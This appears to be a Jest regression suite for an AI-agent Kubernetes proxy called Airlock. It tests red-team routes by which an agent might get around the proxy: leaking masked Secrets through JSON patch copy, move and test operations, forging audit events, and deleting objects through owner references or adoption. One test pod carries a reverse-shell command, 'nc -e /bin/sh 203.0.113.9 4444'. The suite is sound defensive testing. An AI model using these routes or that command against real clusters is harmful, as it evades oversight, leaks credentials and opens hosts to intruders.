// The side doors of the agent proxy, one regression test each, against the product as shipped (default
// policy, masking and recording on) and a real kube-apiserver. The agent holds cluster-admin RBAC: the
// policy is the only guard. Every answer is also scanned for the planted canaries in any encoding.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { readSession, listSessionFiles } from '../../src/recording/index.js';
import type { RequestRecord } from '../../src/recording/index.js';
import { clientFor, kubectl, testEnv, uniqueName } from '../helpers/env.js';
import { rawRequest, type RawResponse } from '../helpers/proxy.js';
import { canariesInRecordings, canaryValue, findCanary, plantCanaries, startShippedProxy, WIDGETS, type Canaries, type ShippedProxy } from '../helpers/hostile.js';

let proxy: ShippedProxy;
let canaries: Canaries;
let kc: string;
const ns = uniqueName('side');
const token = () => testEnv().tokens['agent-ci'];
const agent = (method: string, path: string, opts: Parameters<typeof rawRequest>[3] = {}): Promise<RawResponse> => rawRequest(proxy.url, method, path, { token: token(), ...opts });

function expectClean(r: RawResponse | string): void {
  const text = typeof r === 'string' ? r : r.text;
  expect(findCanary(text, canaries.values)).toBeUndefined();
}

function records(): RequestRecord[] {
  return listSessionFiles(proxy.recordings).flatMap((f) => readSession(f));
}

beforeAll(async () => {
  proxy = await startShippedProxy();
  kc = proxy.kubeconfigFor('agent-ci');
  canaries = await plantCanaries(ns);
}, 60_000);

afterAll(async () => {
  await proxy?.close();
  await (await clientFor('admin')).delete(`/api/v1/namespaces/${ns}`).catch(() => undefined);
});

describe('1. Upgrade headers on plain requests', () => {
  it.each([`/api/v1/namespaces/${ns}/secrets/db`, '/api/v1/secrets', `/api/v1/namespaces/${ns}/configmaps/app`])('GET %s with Connection: Upgrade is refused, never relayed', async (path) => {
    const r = await agent('GET', path, { headers: { connection: 'Upgrade', upgrade: 'websocket' } });
    expect(r.status).toBe(400);
    expect(r.json()).toMatchObject({ kind: 'Status', reason: 'BadRequest' });
    expect(r.text).toContain('protocol upgrades are accepted only');
    expectClean(r);
  });
});

describe('2. a Secret value copied inside the object', () => {
  it('a JSON patch copying data into an annotation is refused and nothing is stored', async () => {
    const patch = [{ op: 'add', path: '/metadata/annotations', value: {} }, { op: 'copy', from: '/data/password', path: '/metadata/annotations/x' }];
    const r = await kubectl(['-n', ns, 'patch', 'secret', 'db', '--type=json', '-p', JSON.stringify(patch)], { kubeconfig: kc });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('outside data/stringData');
    expectClean(r.stdout + r.stderr);
    const live = await (await clientFor('admin')).get<{ metadata: { annotations?: Record<string, string> } }>(`/api/v1/namespaces/${ns}/secrets/db`);
    expect(live.metadata.annotations?.x).toBeUndefined();
  });

  it('moving a value into a label or type is refused too', async () => {
    for (const path of ['/metadata/labels/x', '/type']) {
      const patch = [{ op: 'add', path: '/metadata/labels', value: {} }, { op: 'copy', from: '/data/token', path }];
      const r = await agent('PATCH', `/api/v1/namespaces/${ns}/secrets/db`, { headers: { 'content-type': 'application/json-patch+json' }, body: JSON.stringify(patch) });
      expect(r.status).toBeGreaterThanOrEqual(400);
      expectClean(r);
    }
  });

  it('a JSON patch "test" on a Secret value (a guessing oracle) is refused', async () => {
    const patch = [{ op: 'test', path: '/data/password', value: Buffer.from(canaries.byName.secretPassword!).toString('base64') }];
    const r = await agent('PATCH', `/api/v1/namespaces/${ns}/secrets/db`, { headers: { 'content-type': 'application/json-patch+json' }, body: JSON.stringify(patch) });
    expect(r.status).toBe(403);
    expect(r.text).toContain('would reveal a masked value');
  });
});

describe('3. errors echo values', () => {
  it('an invalid copy into /type answers without the value', async () => {
    const r = await agent('PATCH', `/api/v1/namespaces/${ns}/secrets/db`, {
      headers: { 'content-type': 'application/json-patch+json' },
      body: JSON.stringify([{ op: 'copy', from: '/data/token', path: '/type' }]),
    });
    expect(r.status).toBeGreaterThanOrEqual(400);
    expectClean(r);
  });
});

describe('4. pre-judgement probes', () => {
  it('PATCH on pods/log is refused before any upstream call', async () => {
    const r = await agent('PATCH', `/api/v1/namespaces/${ns}/pods/envpod/log`, { headers: { 'content-type': 'application/merge-patch+json' }, body: '{}' });
    expect(r.status).toBe(405);
    expect(r.json()).toMatchObject({ kind: 'Status', reason: 'MethodNotAllowed' });
    expectClean(r);
  });

  it.each(['PUT', 'DELETE', 'POST'])('%s on pods/log is refused as well', async (method) => {
    const r = await agent(method, `/api/v1/namespaces/${ns}/pods/envpod/log`, method === 'DELETE' ? {} : { headers: { 'content-type': 'application/json' }, body: '{}' });
    expect(r.status).toBe(405);
    expectClean(r);
  });
});

describe('5. the recording tells the truth', () => {
  it('records the decision actually made and only what the agent received', async () => {
    const before = new Set(records().map((r) => r.requestId));
    await agent('PATCH', `/api/v1/namespaces/${ns}/pods/envpod/log`, { headers: { 'content-type': 'application/merge-patch+json' }, body: '{}' });
    await agent('GET', `/api/v1/namespaces/${ns}/secrets/db`);
    await agent('GET', `/api/v1/namespaces/${ns}/secrets/db`, { headers: { connection: 'Upgrade', upgrade: 'websocket' } });
    // Records are written as each request ends; give the last one a moment to reach the file.
    await new Promise((r) => setTimeout(r, 300));
    const fresh = records().filter((r) => r.type === 'request' && !before.has(r.requestId));
    const logPatch = fresh.find((r) => r.method === 'PATCH' && r.request.subresource === 'log');
    expect(logPatch).toMatchObject({ status: 405, decision: { action: 'error' } });
    const read = fresh.find((r) => r.method === 'GET' && r.status === 200 && r.request.resource === 'secrets');
    expect(read?.decision.action).toBe('allow');
    expect(read?.responseBody).toBeDefined();
    const upgrade = fresh.find((r) => r.method === 'GET' && r.status === 400 && r.request.resource === 'secrets');
    expect(upgrade?.decision.action).toBe('error');
    expect(canariesInRecordings(proxy.recordings, canaries.values)).toEqual([]);
  });
});

describe('5b. recordings of large and Secret bodies', () => {
  it('a create larger than the record limit is masked whole, then bounded with its size and digest', async () => {
    const value = canaryValue('big');
    const name = uniqueName('big');
    const dep = {
      apiVersion: 'apps/v1', kind: 'Deployment',
      metadata: { name, annotations: { filler: 'x'.repeat(70 * 1024) } },
      spec: { replicas: 1, selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: { containers: [{ name: 'c', image: 'registry.example/c@sha256:' + 'c'.repeat(64), env: [{ name: 'DB_PASSWORD', value }] }] } } },
    };
    const r = await agent('POST', `/apis/apps/v1/namespaces/${ns}/deployments?dryRun=All`, { headers: { 'content-type': 'application/json' }, body: JSON.stringify(dep) });
    expect(r.status).toBe(201);
    await new Promise((res) => setTimeout(res, 300));
    const rec = records().find((x) => x.method === 'POST' && x.path.includes('/deployments') && JSON.stringify(x.requestBody).includes('airlock.dev/truncated'));
    expect(rec?.requestBody).toMatchObject({ 'airlock.dev/truncated': true, sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(rec?.responseBody).toMatchObject({ 'airlock.dev/truncated': true, sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(canariesInRecordings(proxy.recordings, [value, ...canaries.values])).toEqual([]);
  });

  it('a create past the record limit is recorded as its skeleton: padding cannot hide what it does', async () => {
    const value = canaryValue('huge');
    const name = uniqueName('huge');
    const cm = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, annotations: { pad: 'x'.repeat(200 * 1024) } }, data: { filler: 'x'.repeat(300 * 1024), password: value, command: 'EVIL-COMMAND-MARKER-42' } };
    const r = await agent('POST', `/api/v1/namespaces/${ns}/configmaps?dryRun=All`, { headers: { 'content-type': 'application/json' }, body: JSON.stringify(cm) });
    expect(r.status).toBe(201);
    await new Promise((res) => setTimeout(res, 300));
    const rec = records().find((x) => x.method === 'POST' && x.path.includes('/configmaps') && JSON.stringify(x.requestBody ?? '').includes('as its size and sha256'));
    const body = rec?.requestBody as { bytes: number; sha256: string; skeleton: { metadata: { name: string }; data: Record<string, string> } };
    expect(body.bytes).toBeGreaterThan(500 * 1024);
    expect(body.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(body.skeleton.metadata.name).toBe(name);
    expect(body.skeleton.data.command).toBe('EVIL-COMMAND-MARKER-42');
    expect(body.skeleton.data.filler).toMatch(/^\[airlock: 307200 bytes, sha256 [0-9a-f]{64}\]$/);
    expect(canariesInRecordings(proxy.recordings, [value, ...canaries.values])).toEqual([]);
  });

  it('a skeleton keeps every field (red team): no value without its context, nothing pushed out by padding', async () => {
    const value = canaryValue('skel');
    const filler = Array.from({ length: 17 }, (_, i) => ({ name: `init${i}`, image: 'x', env: Array.from({ length: 100 }, (__, j) => ({ name: `V${j}`, value: 'v' })) }));
    const pod = {
      apiVersion: 'v1', kind: 'Pod',
      metadata: { name: uniqueName('skel'), annotations: Object.fromEntries(Array.from({ length: 70 }, (_, i) => [`pad${i}`, 'p'.repeat(1000)])) },
      spec: { initContainers: filler, containers: [{ name: 'c', image: 'evil.example/implant:1', command: ['sh', '-c', 'nc -e /bin/sh 203.0.113.9 4444'], env: [{ value, name: 'DB_PASSWORD' }], args: ['a'.repeat(300 * 1024)] }] },
    };
    const r = await agent('POST', `/api/v1/namespaces/${ns}/pods?dryRun=All`, { headers: { 'content-type': 'application/json' }, body: JSON.stringify(pod) });
    expect([201, 403]).toContain(r.status);
    await new Promise((res) => setTimeout(res, 300));
    const rec = records().find((x) => x.method === 'POST' && JSON.stringify(x.requestBody ?? '').includes(pod.metadata.name));
    const text = JSON.stringify(rec?.requestBody);
    expect(text).toContain('evil.example/implant:1');
    expect(text).toContain('nc -e /bin/sh 203.0.113.9 4444');
    expect(canariesInRecordings(proxy.recordings, [value, ...canaries.values])).toEqual([]);
  });

  it('a Secret create is recorded masked, not dropped', async () => {
    const value = canaryValue('sec');
    const name = uniqueName('rec');
    const r = await agent('POST', `/api/v1/namespaces/${ns}/secrets?dryRun=All`, { headers: { 'content-type': 'application/json' }, body: JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name }, stringData: { password: value } }) });
    expect(r.status).toBe(201);
    await new Promise((res) => setTimeout(res, 300));
    const rec = records().find((x) => x.method === 'POST' && JSON.stringify(x.requestBody ?? '').includes(name));
    expect(JSON.stringify(rec?.requestBody)).toContain('airlock-masked:');
    expect(canariesInRecordings(proxy.recordings, [value])).toEqual([]);
  });
});

describe('6. credential shapes', () => {
  it.each([
    ['a kubeconfig in a ConfigMap', `/api/v1/namespaces/${ns}/configmaps/kubeconfig`],
    ['env values named MYSQL_PWD and DB_PASS', `/api/v1/namespaces/${ns}/pods/envpod`],
    ["a custom resource's spec.password and an env list in its steps", `${WIDGETS}/${ns}/widgets/w1`],
    ['a Deployment template env value', `/apis/apps/v1/namespaces/${ns}/deployments/web`],
    ['a ConfigMap value under a credential key', `/api/v1/namespaces/${ns}/configmaps/app`],
  ])('%s is masked', async (_what, path) => {
    const r = await agent('GET', path);
    expect(r.status).toBe(200);
    expectClean(r);
  });

  it("the custom resource's printer columns are masked in Tables, whatever the column is called", async () => {
    for (const includeObject of ['', '&includeObject=None', '&includeObject=Object']) {
      const r = await agent('GET', `${WIDGETS}/${ns}/widgets?limit=50${includeObject}`, { headers: { accept: 'application/json;as=Table;v=v1;g=meta.k8s.io' } });
      expect(r.status).toBe(200);
      expect(r.json().kind).toBe('Table');
      expectClean(r);
    }
    const k = await kubectl(['-n', ns, 'get', 'widgets.canary.airlock-test.dev', '-o', 'wide'], { kubeconfig: kc });
    expect(k.code).toBe(0);
    expect(k.stdout).toContain('w1');
    expectClean(k.stdout);
  });

  it('the pod log line with a password is masked', async () => {
    const r = await agent('GET', `/api/v1/namespaces/${ns}/pods/envpod/log`);
    if (r.status === 200) expectClean(r);
    else expect(r.status).toBeGreaterThanOrEqual(400);
  });
});

describe('7. production cannot be destroyed without approval', () => {
  const prod = uniqueName('prod');
  beforeAll(async () => {
    const admin = await clientFor('admin');
    await admin.create('/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: prod, labels: { env: 'production' } } });
    for (const name of ['a', 'b']) {
      await admin.create(`/apis/apps/v1/namespaces/${prod}/deployments`, {
        apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name },
        spec: { replicas: 1, selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: { containers: [{ name: 'c', image: 'registry.example/c:1' }] } } },
      });
    }
    await admin.create(`/api/v1/namespaces/${prod}/secrets`, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 's' }, stringData: { k: 'v' } });
    await admin.create(`/api/v1/namespaces/${prod}/services`, { apiVersion: 'v1', kind: 'Service', metadata: { name: 'svc' }, spec: { ports: [{ port: 80 }] } });
  });
  afterAll(async () => {
    await (await clientFor('admin')).delete(`/api/v1/namespaces/${prod}`).catch(() => undefined);
  });

  it('kubectl delete deployments --all is held for every object and deletes nothing', async () => {
    const r = await kubectl(['-n', prod, 'delete', 'deployments', '--all', '--wait=false'], { kubeconfig: kc });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('held for approval');
    const list = await (await clientFor('admin')).get<{ items: unknown[] }>(`/apis/apps/v1/namespaces/${prod}/deployments`);
    expect(list.items).toHaveLength(2);
  });

  it.each([['secret', 's'], ['service', 'svc'], ['deployment', 'a']])('deleting %s %s there is held', async (kind, name) => {
    const r = await kubectl(['-n', prod, 'delete', kind, name, '--wait=false'], { kubeconfig: kc });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('held for approval');
  });

  it('giving a production object a missing owner (so the garbage collector deletes it) is held', async () => {
    const patch = { metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'ghost', uid: '11111111-2222-3333-4444-555555555555' }] } };
    const r = await kubectl(['-n', prod, 'patch', 'deployment', 'b', '--type=merge', '-p', JSON.stringify(patch)], { kubeconfig: kc });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('held for approval');
    const live = await (await clientFor('admin')).get<{ metadata: { ownerReferences?: unknown[] } }>(`/apis/apps/v1/namespaces/${prod}/deployments/b`);
    expect(live.metadata.ownerReferences).toBeUndefined();
  });

  it("deleting another's object outside production is held too", async () => {
    const r = await kubectl(['-n', ns, 'delete', 'configmap', 'app', '--wait=false'], { kubeconfig: kc });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('held for approval');
  });
});

describe('8. workloads cannot run as a powerful ServiceAccount', () => {
  const sa = uniqueName('root-sa');
  beforeAll(async () => {
    const admin = await clientFor('admin');
    await admin.create(`/api/v1/namespaces/${ns}/serviceaccounts`, { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: sa } });
    await admin.create('/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', {
      apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: sa },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ kind: 'ServiceAccount', name: sa, namespace: ns }],
    });
  });
  afterAll(async () => {
    await (await clientFor('admin')).delete(`/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/${sa}`).catch(() => undefined);
  });

  it.each([
    ['a Pod', `/api/v1/namespaces/${ns}/pods`, { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p' }, spec: { serviceAccountName: sa, containers: [{ name: 'c', image: 'registry.example/c@sha256:' + 'b'.repeat(64) }] } }],
    ['a Job', `/apis/batch/v1/namespaces/${ns}/jobs`, { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j' }, spec: { template: { spec: { restartPolicy: 'Never', serviceAccountName: sa, containers: [{ name: 'c', image: 'registry.example/c@sha256:' + 'b'.repeat(64) }] } } } }],
  ])('%s running as a ServiceAccount bound to cluster-admin is denied', async (_what, path, obj) => {
    const r = await agent('POST', path, { headers: { 'content-type': 'application/json' }, body: JSON.stringify(obj) });
    expect(r.status).toBe(403);
    expect(r.text).toContain('no-powerful-service-accounts');
  });

  it('the same Pod as the namespace default ServiceAccount is admitted', async () => {
    const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'plain' }, spec: { containers: [{ name: 'c', image: 'registry.example/c@sha256:' + 'b'.repeat(64) }] } };
    const r = await agent('POST', `/api/v1/namespaces/${ns}/pods?dryRun=All`, { headers: { 'content-type': 'application/json' }, body: JSON.stringify(pod) });
    expect(r.status).toBe(201);
  });
});

describe('red-team findings', () => {
  const jsonPatch = (path: string, ops: unknown[]) => agent('PATCH', path, { headers: { 'content-type': 'application/json-patch+json' }, body: JSON.stringify(ops) });

  it.each([
    ['a Secret value moved into an annotation', `/api/v1/namespaces/${ns}/secrets/db`, [{ op: 'add', path: '/metadata/annotations', value: {} }, { op: 'move', from: '/data/password', path: '/metadata/annotations/x' }]],
    ['a ConfigMap credential moved to a plain key', `/api/v1/namespaces/${ns}/configmaps/app`, [{ op: 'move', from: '/data/DB_PASSWORD', path: '/data/plain' }]],
    ['a ConfigMap credential copied to a plain key', `/api/v1/namespaces/${ns}/configmaps/app`, [{ op: 'copy', from: '/data/DB_PASSWORD', path: '/data/plain' }]],
    ['a Deployment env value moved into a label', `/apis/apps/v1/namespaces/${ns}/deployments/web`, [{ op: 'move', from: '/spec/template/spec/containers/0/env/0/value', path: '/spec/template/metadata/labels/leak' }]],
    ['a Pod env value copied into an annotation', `/api/v1/namespaces/${ns}/pods/envpod`, [{ op: 'add', path: '/metadata/annotations', value: {} }, { op: 'copy', from: '/spec/containers/0/env/0/value', path: '/metadata/annotations/x' }]],
  ])('%s is refused and nothing changes', async (_what, path, ops) => {
    const r = await jsonPatch(path, ops);
    expect(r.status).toBe(403);
    expectClean(r);
    const after = await agent('GET', path);
    expectClean(after);
  });

  it.each([
    ['the last-applied annotation of a Secret', `/api/v1/namespaces/${ns}/secrets/applied`, '/metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration'],
    ['a whole container with env values', `/apis/apps/v1/namespaces/${ns}/deployments/web`, '/spec/template/spec/containers/0'],
    ["a custom resource's credential field", `${WIDGETS}/${ns}/widgets/w1`, '/spec/password'],
    ['the whole object', `/api/v1/namespaces/${ns}/configmaps/kubeconfig`, ''],
  ])('a JSON patch "test" on %s is refused (no guessing oracle)', async (_what, path, pointer) => {
    const r = await agent('PATCH', `${path}?dryRun=All`, { headers: { 'content-type': 'application/json-patch+json' }, body: JSON.stringify([{ op: 'test', path: pointer, value: 'guess' }]) });
    expect(r.status).toBe(403);
    expect(r.text).toContain('would reveal a masked value');
  });

  it('markers are unlinkable: the same hidden value never shows the same marker twice, and a right guess does not match it', async () => {
    const first = (await agent('GET', `/api/v1/namespaces/${ns}/secrets/db`)).json() as { data: Record<string, string> };
    const second = (await agent('GET', `/api/v1/namespaces/${ns}/secrets/db`)).json() as { data: Record<string, string> };
    expect(first.data.password).not.toBe(second.data.password);
    const guess = await agent('POST', `/api/v1/namespaces/${ns}/configmaps?dryRun=All`, {
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: uniqueName('guess') }, data: { PASSWORD_1: canaries.byName.secretPassword } }),
    });
    expect(guess.status).toBe(201);
    const shown = (guess.json() as { data: Record<string, string> }).data.PASSWORD_1!;
    expect(shown).toMatch(/^airlock-masked:/);
    for (const m of [first.data.password, second.data.password]) expect(Buffer.from(m!, 'base64').toString()).not.toBe(shown);
  });

  it("Airlock's audit trail in a namespace can be neither rewritten nor forged", async () => {
    const admin = await clientFor('admin');
    await admin.create(`/api/v1/namespaces/${ns}/configmaps`, { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'airlock-audit', labels: { 'app.kubernetes.io/managed-by': 'airlock' } }, data: { 'p.r': '{"count":3}' } });
    const rewrite = await agent('PATCH', `/api/v1/namespaces/${ns}/configmaps/airlock-audit`, { headers: { 'content-type': 'application/merge-patch+json' }, body: JSON.stringify({ data: { 'p.r': '{"count":0}' } }) });
    expect(rewrite.status).toBe(403);
    const forged = await agent('POST', `/api/v1/namespaces/${ns}/events`, {
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ apiVersion: 'v1', kind: 'Event', metadata: { name: uniqueName('forged') }, reason: 'AirlockAudit', reportingComponent: 'airlock.dev/webhook', message: 'blame bob', involvedObject: { kind: 'Pod', name: 'envpod', namespace: ns } }),
    });
    expect(forged.status).toBe(403);
  });

  it("an agent cannot make another's object its own by editing it, then delete it without approval", async () => {
    const admin = await clientFor('admin');
    const victim = uniqueName('victim');
    await admin.create(`/api/v1/namespaces/${ns}/configmaps`, { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: victim }, data: { a: 'b' } });
    expect((await kubectl(['-n', ns, 'label', 'configmap', victim, 'x=y'], { kubeconfig: kc })).code).toBe(0);
    const del = await kubectl(['-n', ns, 'delete', 'configmap', victim, '--wait=false'], { kubeconfig: kc });
    expect(del.stderr).toContain('held for approval');
    await admin.get(`/api/v1/namespaces/${ns}/configmaps/${victim}`);
    const claim = await agent('PATCH', `/api/v1/namespaces/${ns}/configmaps/${victim}`, { headers: { 'content-type': 'application/merge-patch+json' }, body: JSON.stringify({ metadata: { annotations: { 'airlock.dev/agent': 'agent-ci' } } }) });
    expect(claim.status).toBe(403);
  });
});

describe('deleting by adoption', () => {
  const pause = 'registry.k8s.io/pause@sha256:ee6521f290b2168b6e0935a181d4cff9be1ac3f505666ef0e3c98fae8199917a';
  const podSpec = { automountServiceAccountToken: false, securityContext: { runAsNonRoot: true, runAsUser: 1000 }, containers: [{ name: 'c', image: pause }] };
  const json = (body: unknown) => ({ body: JSON.stringify(body), headers: { 'content-type': 'application/json' } });
  const replicaSet = (name: string, app: string, replicas: number) => ({
    apiVersion: 'apps/v1', kind: 'ReplicaSet', metadata: { name },
    spec: { replicas, selector: { matchLabels: { app } }, template: { metadata: { labels: { app } }, spec: podSpec } },
  });

  it("a ReplicaSet whose selector would adopt (and delete) someone else's Pods is held; one over its own Pods passes", async () => {
    const admin = await clientFor('admin');
    await admin.create(`/api/v1/namespaces/${ns}/pods`, { metadata: { name: 'bystander', labels: { app: 'bystander' } }, spec: podSpec });
    const held = await agent('POST', `/apis/apps/v1/namespaces/${ns}/replicasets`, json(replicaSet('reaper', 'bystander', 0)));
    expect(held.status).toBe(403);
    expect(held.text).toContain('held for approval');
    expect(held.text).toContain('bystander');
    // Nothing was created; the bystander is untouched.
    await expect(admin.get(`/apis/apps/v1/namespaces/${ns}/replicasets/reaper`)).rejects.toMatchObject({ status: 404 });
    expect((await admin.get<{ metadata: { ownerReferences?: unknown[] } }>(`/api/v1/namespaces/${ns}/pods/bystander`)).metadata.ownerReferences).toBeUndefined();

    // A ReplicationController without a selector gets its template's labels as one (red team): held too.
    const rc = { apiVersion: 'v1', kind: 'ReplicationController', metadata: { name: 'reaper-rc' }, spec: { replicas: 0, template: { metadata: { labels: { app: 'bystander' } }, spec: podSpec } } };
    const heldRc = await agent('POST', `/api/v1/namespaces/${ns}/replicationcontrollers`, json(rc));
    expect(heldRc.status).toBe(403);
    expect(heldRc.text).toContain('held for approval');
    await expect(admin.get(`/api/v1/namespaces/${ns}/replicationcontrollers/reaper-rc`)).rejects.toMatchObject({ status: 404 });

    // The agent's own bare Pod may be adopted by its own ReplicaSet.
    expect((await agent('POST', `/api/v1/namespaces/${ns}/pods`, json({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'mine', labels: { app: 'mine' } }, spec: podSpec }))).status).toBe(201);
    const ok = await agent('POST', `/apis/apps/v1/namespaces/${ns}/replicasets`, json(replicaSet('keeper', 'mine', 1)));
    expect({ status: ok.status, text: ok.status === 201 ? '' : ok.text }).toEqual({ status: 201, text: '' });
  });
});

describe('benign work still passes', () => {
  it('get, list, apply, scale and delete of its own objects', async () => {
    const own = uniqueName('own');
    expect((await kubectl(['create', 'namespace', own], { kubeconfig: kc })).code).toBe(0);
    try {
      expect((await kubectl(['-n', own, 'create', 'configmap', 'c', '--from-literal=a=b'], { kubeconfig: kc })).code).toBe(0);
      expect((await kubectl(['-n', own, 'create', 'deployment', 'web', '--image=registry.example/web@sha256:' + 'a'.repeat(64)], { kubeconfig: kc })).code).toBe(0);
      expect((await kubectl(['-n', own, 'scale', 'deployment', 'web', '--replicas=2'], { kubeconfig: kc })).code).toBe(0);
      expect((await kubectl(['-n', own, 'get', 'configmaps,deployments', '-o', 'name'], { kubeconfig: kc })).stdout).toContain('configmap/c');
      expect((await kubectl(['-n', own, 'delete', 'configmap', 'c'], { kubeconfig: kc })).code).toBe(0);
    } finally {
      await kubectl(['delete', 'namespace', own, '--wait=false'], { kubeconfig: kc });
    }
  });
});
